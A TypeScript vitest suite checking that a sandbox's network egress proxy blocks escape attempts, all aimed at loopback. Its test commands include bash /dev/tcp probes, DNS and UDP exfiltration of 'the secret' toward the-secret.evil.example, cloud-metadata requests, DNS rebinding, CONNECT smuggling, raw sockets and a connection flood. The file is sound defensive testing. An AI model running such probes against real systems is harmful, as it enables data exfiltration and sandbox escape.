import { execFile } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer as createWeb } from 'node:http';
import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import type { Sandbox } from '../../../sandbox/index.ts';
import { type Egress, openEgress } from '../../../src/egress/index.ts';
import {
  exited,
  MiB,
  type Play,
  play,
  processesOfJobs,
  type Ran,
  tempFolder,
  uniqueSleep,
} from '../../sandbox/support.ts';
import { listen } from '../../source/support.ts';

export interface NetworkTier {
  /** The tier as it is offered. Its builds need bash and perl. */
  open(stateDir: string): Promise<Sandbox>;
  /** The control: the same where a build is in the network of the host. */
  openToHost(stateDir: string): Promise<Sandbox>;
  /** Builds have unix sockets of their own in every case: no guard stands there, so none can be taken away. */
  ownUnixSockets?: boolean;
  /**
   * Why a build cannot open connections by the thousand. The bound of all of them is the worker's, the same for each tier, and
   * is looked at in those where it can be reached.
   */
  slowToConnect?: string;
  /** What builds run on and need, where that is not the usual. */
  more?: Play;
}

const run = promisify(execFile);

/** Words of bash that say something to an address, and print the first line of the answer. */
const say = (port: number, text: string, host = '127.0.0.1'): string =>
  `bash -c 'exec 3<>/dev/tcp/${host}/${port} && printf "${text}" >&3 && head -n 1 <&3'`;
const ask = (host: string): string => say(3128, `CONNECT ${host} HTTP/1.1\\r\\n\\r\\n`);
const get = (url: string): string =>
  `bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf "GET ${url} HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n" >&3; cat <&3'`;

/** A server on a port of the host's loopback that counts who comes. */
async function bystander(): Promise<{ port: number; knocks: () => number }> {
  let knocks = 0;
  const port = await listen((socket) => {
    knocks++;
    socket.end('hello\n');
  });
  return { port, knocks: () => knocks };
}

/** Pours out bytes as long as somebody takes them. */
async function fountain(bytesMax: number): Promise<{ port: number; written: () => number }> {
  let written = 0;
  const port = await listen((socket) => {
    const more = (): void => {
      while (written < bytesMax && socket.writable) {
        written += 65_536;
        if (!socket.write(Buffer.alloc(65_536, 'x'))) return;
      }
      if (written >= bytesMax) socket.end();
    };
    socket.resume().on('drain', more);
    more();
  });
  return { port, written: () => written };
}

/** What a build with a network could do with it, and what becomes of that. Every target is on this machine's loopback. */
export function networkAttacks({
  open,
  openToHost,
  ownUnixSockets,
  slowToConnect,
  more = {},
}: NetworkTier): void {
  let folder: Awaited<ReturnType<typeof tempFolder>>;
  let sandbox: Sandbox;
  let toHost: Sandbox;
  beforeAll(async () => {
    folder = await tempFolder();
    sandbox = await open(folder.path);
    toHost = await openToHost(folder.path);
  }, 60_000);
  afterAll(() => folder?.remove());

  /** The proxy as a worker opens it; leads to these ports of the loopback, unless told otherwise. */
  async function proxy(
    ports: number[],
    options: Partial<Parameters<typeof openEgress>[0]> = {},
  ): Promise<Egress> {
    const dir = await tempFolder();
    const here = ports.map((port) => ({ host: '127.0.0.1', port }));
    const egress = await openEgress({
      ...{ dir: dir.path, targets: here, named: here, receivedBytesMax: 64 * MiB, ...options },
    });
    onTestFinished(async () => {
      await egress.close();
      await dir.remove();
    });
    return egress;
  }
  const inside = (egress: Egress | undefined, steps: string[], options: Play = {}): Promise<Ran> =>
    play(sandbox, steps, {
      ...{ ...more, ...options },
      ...(egress !== undefined && { network: { socket: egress.socket } }),
    });
  /** The control: the same words in a build that is in the host's network. */
  const onHost = (steps: string[]): Promise<Ran> => play(toHost, steps, more);
  /** After whatever was tried, the next build works, and has its network. */
  async function nextWorks(): Promise<void> {
    const { port } = await bystander();
    const ran = await inside(await proxy([port]), [ask(`127.0.0.1:${port}`)]);
    expect(ran.log).toContain(' 200 ');
    expect(ran.outcome).toEqual(exited(0));
  }
  const codes = ({ troubles }: Egress): string[] => troubles.map(({ code }) => code);

  describe('a build with a network', () => {
    it('asks what is listed, through the proxy, for which it finds the usual variables', async () => {
      const web = createWeb((request, response) => response.end(`at ${request.url}`)).listen(0, '127.0.0.1');
      await once(web, 'listening');
      onTestFinished(() => void web.close());
      const { port } = web.address() as AddressInfo;
      const egress = await proxy([port]);
      const ran = await inside(
        egress,
        ['env | grep -i _proxy | sort', get(`http://127.0.0.1:${port}/here`)],
        {
          env: { http_proxy: 'http://elsewhere:1', NODE_CHANNEL_FD: '1' },
        },
      );
      expect(ran.outcome).toEqual(exited(0));
      expect(ran.log).toContain('at /here');
      const at = 'http://127.0.0.1:3128';
      for (const name of ['http_proxy', 'https_proxy', 'HTTP_PROXY', 'HTTPS_PROXY'])
        expect(ran.log).toContain(`${name}=${at}\n`);
      expect(egress.counts).toMatchObject({ connections: 1, refused: 0 });
      expect(egress.counts.received).toBeGreaterThan(10);
    });

    it('has nothing of it when the job asked for none', async () => {
      const ran = await inside(undefined, ['env | grep -ci _proxy || true', `${ask('a:1')} || echo closed`]);
      expect(ran.log).toContain('0\n');
      expect(ran.log).toContain('closed');
      expect(ran.log).not.toContain('HTTP/1.1');
    });

    it('sees no network device but its loopback', async () => {
      const devices = 'tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " "';
      expect((await inside(await proxy([]), [devices])).log.trim()).toBe('lo');
      expect((await onHost([devices])).log.trim()).not.toBe('');
    });

    it('finishes what it asked for although it has nothing more to say', async () => {
      const bytes = randomBytes(300_000).toString('hex');
      const port = await listen((socket) => {
        socket.resume().once('end', () => socket.end(bytes));
      });
      const shut = `perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(3128, inet_aton("127.0.0.1"))) or die; syswrite S, "CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\n\\r\\n"; shutdown(S, 1); while (sysread(S, my $b, 65536)) { $n += length $b } print $n'`;
      const ran = await inside(await proxy([port]), [shut]);
      expect(Number(ran.log)).toBeGreaterThan(bytes.length);
    });
  });

  describe('a build that looks for a way past the proxy', () => {
    it('reaches no service of the host’s loopback', async () => {
      const { port, knocks } = await bystander();
      const knock = say(port, 'x');
      expect((await onHost([knock])).log).toContain('hello');
      expect(knocks()).toBe(1);
      for (const egress of [undefined, await proxy([])])
        expect((await inside(egress, [knock])).outcome).toEqual(exited(1));
      expect(knocks()).toBe(1);
      await nextWorks();
    });

    it('reaches no abstract socket of the host, which no file permission guards', async () => {
      const name = `quorate-${randomUUID()}`;
      let knocks = 0;
      const server = createServer((socket) => {
        knocks++;
        socket.destroy();
      }).listen(`\0${name}`);
      await once(server, 'listening');
      onTestFinished(() => void server.close());
      const knock = `perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0) or die; connect(S, pack(q(Sa*), AF_UNIX, qq(\\0${name}))) or exit 4'`;
      const [reached, code] = ownUnixSockets === true ? [0, 4] : [1, 0];
      expect((await onHost([knock])).outcome).toEqual(exited(code));
      await expect.poll(() => knocks).toBe(reached);
      expect((await inside(await proxy([]), [knock])).outcome).toEqual(exited(4));
      expect(knocks).toBe(reached);
      await nextWorks();
    });

    it('finds no file of the proxy, whose socket is the worker’s', async () => {
      const egress = await proxy([]);
      const look = `ls -d ${egress.socket} /run/quorate 2>/dev/null; find / -xdev -type s 2>/dev/null; true`;
      expect((await inside(egress, [look])).log.trim()).toBe('');
    });

    it('cannot take the proxy’s place, nor listen to the host', async () => {
      const egress = await proxy([]);
      const take = `perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1); bind(S, sockaddr_in(3128, inet_aton("127.0.0.1"))) or exit 4'`;
      expect((await inside(egress, [take])).outcome).toEqual(exited(4));
      // A port on all of its addresses is a port on its own loopback.
      const nap = uniqueSleep();
      let tried: string | undefined;
      const port = 40_000 + Math.floor(Math.random() * 10_000);
      const stop = new AbortController();
      await inside(
        egress,
        [
          `perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); bind(S, sockaddr_in(${port}, INADDR_ANY)) or die; listen(S, 9); $|=1; print "up\\n"; sleep ${nap}'`,
        ],
        {
          signal: stop.signal,
          onLog: () => {
            const socket = connect(port, '127.0.0.1');
            socket.once('connect', () => {
              tried = 'connected';
              stop.abort();
            });
            socket.once('error', ({ code }: NodeJS.ErrnoException) => {
              tried = code;
              stop.abort();
            });
          },
        },
      );
      expect(tried).toBe('ECONNREFUSED');
    });

    it('opens no raw socket, with which it could speak for others', async () => {
      const raw = `perl -MSocket -e 'socket(S, AF_INET, SOCK_RAW, 1) or exit 4'; perl -MSocket -e 'socket(S, 17, SOCK_RAW, 768) or exit 5'`;
      // Outside of a sandbox, in a network namespace of their own, the same words open both.
      await run('unshare', ['--user', '--map-root-user', '--net', 'sh', '-euc', raw]);
      for (const egress of [undefined, await proxy([])])
        expect((await inside(egress, [raw])).outcome).toEqual(exited(4));
      await nextWorks();
    });

    it('has no names looked up, and no way to send them: DNS is no channel', async () => {
      const heard: string[] = [];
      const resolver = createSocket('udp4', (message) => heard.push(message.toString('latin1')));
      resolver.bind(0, '127.0.0.1');
      await once(resolver, 'listening');
      onTestFinished(() => void resolver.close());
      const { port } = resolver.address();
      const tell = `perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0); send(S, "the secret", 0, sockaddr_in(${port}, inet_aton("127.0.0.1"))) or exit 4; sleep 1'`;
      await onHost([tell]);
      await expect.poll(() => heard).toEqual(['the secret']);
      const asked: string[] = [];
      const egress = await proxy([], {
        targets: [{ host: 'git.example', port: 443 }],
        resolve: async (host) => {
          asked.push(host);
          throw new Error('ENOTFOUND');
        },
      });
      await inside(egress, [
        `${tell} || true`,
        'getent hosts the-secret.evil.example || echo unknown',
        ask('the-secret.evil.example:443'),
        ask('the-secret.git.example:443'),
        ask('git.example:443'),
        get('http://the-secret.evil.example/'),
      ]);
      expect(heard).toHaveLength(1);
      expect(asked).toEqual(['git.example']);
      // A proxy for which it is listed does ask.
      const wide = await proxy([], {
        targets: [{ host: 'the-secret.evil.example', port: 443 }],
        resolve: async (host) => {
          asked.push(host);
          throw new Error('ENOTFOUND');
        },
      });
      await inside(wide, [ask('the-secret.evil.example:443')]);
      expect(asked).toEqual(['git.example', 'the-secret.evil.example']);
      await nextWorks();
    });
  });

  describe('a build that wants more of the proxy than is listed', () => {
    it('gets no other port by CONNECT, and nothing that is no HTTP', async () => {
      const { port, knocks } = await bystander();
      const other = await bystander();
      const egress = await proxy([port]);
      const words = [
        ask(`127.0.0.1:${port}`),
        ask(`127.0.0.1:${other.port}`),
        say(3128, `SSH-2.0-x\\r\\n`),
        say(3128, `CONNECT 127.0.0.1:${port}@127.0.0.1:${other.port} HTTP/1.1\\r\\n\\r\\n`),
        get(`http://127.0.0.1:${port}@127.0.0.1:${other.port}/`),
      ];
      const { log } = await inside(egress, words);
      expect(log.match(/^HTTP\/1.1 \d+/gm)).toEqual([
        'HTTP/1.1 200',
        ...['HTTP/1.1 403', 'HTTP/1.1 400', 'HTTP/1.1 403', 'HTTP/1.1 403'],
      ]);
      expect(codes(egress)).toEqual(Array(4).fill('EGRESS_NOT_ALLOWED'));
      expect([knocks(), other.knocks()]).toEqual([1, 0]);
      // With the port on the list it arrives.
      await inside(await proxy([port, other.port]), [ask(`127.0.0.1:${other.port}`)]);
      expect(other.knocks()).toBe(1);
      await nextWorks();
    });

    it('does not follow a redirect off the list', async () => {
      const { port, knocks } = await bystander();
      const web = createWeb((_, response) =>
        response.writeHead(302, { location: `http://127.0.0.1:${port}/secret` }).end(),
      ).listen(0, '127.0.0.1');
      await once(web, 'listening');
      onTestFinished(() => void web.close());
      const { port: first } = web.address() as AddressInfo;
      const follow = `there=$(${get(`http://127.0.0.1:${first}/`)} | tr -d '\\r' | sed -n 's/^location: //p'); echo "to $there"; bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf "GET %s HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n" "$0" >&3; head -n 1 <&3' "$there"`;
      const egress = await proxy([first]);
      const { log } = await inside(egress, [follow]);
      expect(log).toContain(`to http://127.0.0.1:${port}/secret`);
      expect(log).toContain('HTTP/1.1 403');
      expect(knocks()).toBe(0);
      await inside(await proxy([first, port]), [follow]);
      expect(knocks()).toBe(1);
      await nextWorks();
    });

    it('is not led to a host at home by a name that changes (DNS rebinding)', async () => {
      const home = await bystander();
      const reached: string[] = [];
      const answers = ['93.184.215.14'];
      const rebinding = {
        targets: [{ host: 'git.example', port: home.port }],
        resolve: async () => [{ address: answers.pop() ?? '127.0.0.1' }],
        // Nothing here connects to a network: of an address out there it is noted only.
        connect: (to: string, port: number) => {
          reached.push(to);
          return connect({ host: '127.0.0.1', port: to === '127.0.0.1' ? port : 1 });
        },
      };
      const ask2 = [ask(`git.example:${home.port}`), ask(`git.example:${home.port}`)];
      const egress = await proxy([], { ...rebinding, named: [] });
      await inside(egress, ask2);
      expect(reached).toEqual(['93.184.215.14']);
      expect(codes(egress)).toEqual(['EGRESS_UNREACHABLE', 'EGRESS_ADDRESS_REFUSED']);
      expect(home.knocks()).toBe(0);
      await inside(await proxy([home.port], rebinding), ask2);
      expect(home.knocks()).toBe(2);
      await nextWorks();
    });

    it('gets at no cloud metadata: not by its address, not by a name for it', async () => {
      const metadata = '169.254.169.254';
      const reached: string[] = [];
      const { port } = await bystander();
      const connectTo = (to: string) => {
        reached.push(to);
        return connect({ host: '127.0.0.1', port });
      };
      const options = {
        targets: [{ host: 'git.example', port: 80 }],
        resolve: async () => [{ address: metadata }],
        connect: connectTo,
      };
      const words = [
        ask(`${metadata}:80`),
        ask('git.example:80'),
        get(`http://${metadata}/latest/meta-data/`),
        ask('[::ffff:169.254.169.254]:80'),
        // Where there is no device but a loopback, this asks nobody.
        `${say(80, 'x', metadata)} || echo unreachable`,
      ];
      const { log } = await inside(await proxy([], options), words);
      expect(reached).toEqual([]);
      expect(log).toMatch(/unreachable\n/);
      await inside(await proxy([], { ...options, named: [{ host: metadata, port: 80 }] }), words.slice(0, 2));
      expect(reached).toEqual([metadata]);
      await nextWorks();
    });
  });

  describe('a build that takes what it can', () => {
    it('gets no more bytes than may be received, whatever the connections', async () => {
      const pour = 24 * MiB;
      const take = (port: number) =>
        `bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf "CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\n\\r\\n" >&3; cat <&3' | wc -c`;
      const source = await fountain(pour);
      const capped = await proxy([source.port], { receivedBytesMax: 2 * MiB });
      const ran = await inside(capped, [take(source.port), take(source.port)]);
      const [first = 0, second = 0] = ran.log.trim().split('\n').map(Number);
      expect(first + second).toBeLessThan(3 * MiB);
      expect(codes(capped)).toContain('EGRESS_TOO_MUCH');
      const free = await fountain(pour);
      const all = await inside(await proxy([free.port]), [take(free.port)]);
      expect(Number(all.log)).toBeGreaterThanOrEqual(pour);
      await nextWorks();
    });

    it('sends out no more bytes than may be sent', async () => {
      const give = (port: number) =>
        `bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf "CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\n\\r\\n" >&3; head -n 1 <&3; head -c ${8 * MiB} /dev/zero >&3' || true`;
      let heard = 0;
      const port = await listen((socket) => {
        socket.on('data', (chunk) => {
          heard += chunk.length;
        });
      });
      await inside(await proxy([port], { sentBytesMax: 1 * MiB }), [give(port)]);
      expect(heard).toBeLessThan(3 * MiB);
      heard = 0;
      await inside(await proxy([port]), [give(port)]);
      await expect.poll(() => heard).toBeGreaterThan(4 * MiB);
      await nextWorks();
    });

    it('and never reads it, has the server wait, not the worker keep it', async () => {
      const pour = 64 * MiB;
      const asking = (port: number, then: string) =>
        `bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf "CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\n\\r\\n" >&3; ${then}'`;
      const held = await fountain(pour);
      const still = await proxy([held.port], { receivedBytesMax: 2 * pour });
      const ran = await inside(still, [asking(held.port, 'sleep 2')]);
      expect(ran.outcome).toEqual(exited(0));
      expect(held.written()).toBeLessThan(pour / 2);
      expect(still.counts.received).toBeLessThan(pour / 2);
      const read = await fountain(pour);
      await inside(await proxy([read.port], { receivedBytesMax: 2 * pour }), [
        asking(read.port, 'cat <&3 > /dev/null'),
      ]);
      expect(read.written()).toBe(pour);
      await nextWorks();
    });

    const knocks = async (): Promise<void> => {
      const knock = `perl -MSocket -e 'for (1..9000) { socket(S, AF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(3128, inet_aton("127.0.0.1"))) ? $n++ : $refused++; close S } print "$n $refused"'`;
      const egress = await proxy([]);
      const ran = await inside(egress, [knock]);
      const [opened = 0, refused = 0] = ran.log.split(' ').map(Number);
      expect(opened).toBeLessThan(8000);
      expect(refused).toBeGreaterThan(1000);
      expect(egress.counts.connections).toBeLessThan(8000);
      await nextWorks();
    };
    if (slowToConnect === undefined) it('knocks without end, and the worker stops to open', knocks);
  });

  describe('after a build with a network', () => {
    it('nothing of it is left, however it ended', async () => {
      const [opened, closed] = [new Set<Socket>(), new Set<Socket>()];
      const port = await listen((socket) => {
        opened.add(socket);
        socket.resume().once('close', () => closed.add(socket));
      });
      const nap = uniqueSleep();
      const egress = await proxy([port]);
      const stop = new AbortController();
      const holding = `bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf "CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\n\\r\\n" >&3; head -n 1 <&3; setsid sleep ${nap}'`;
      const killed = await inside(egress, [holding], { signal: stop.signal, onLog: () => stop.abort() });
      expect(killed.outcome).toMatchObject({ kind: 'aborted', reason: 'killed' });
      await inside(egress, ['exit 3']);
      await inside(egress, ['sleep 60'], { limits: { seconds: 1 } });
      expect(await processesOfJobs()).toEqual([]);
      expect((await run('ps', ['-eo', 'args'])).stdout).not.toContain(nap);
      expect(opened.size).toBe(1);
      await expect.poll(() => closed.size).toBe(1);
    });
  });
}
